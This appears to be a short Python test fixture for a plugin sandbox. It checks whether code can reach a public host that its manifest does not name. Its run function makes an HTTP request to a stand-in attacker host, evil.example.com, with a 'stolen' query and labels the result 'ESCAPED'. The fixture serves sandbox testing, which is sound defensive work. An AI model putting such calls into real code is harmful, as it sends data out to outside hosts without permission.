# tries: a public host that the manifest does not name
# layer: host
# grants: http
def run(ctx, params):
    return f"ESCAPED: {ctx.http_get('http://evil.example.com/?stolen=1')}"
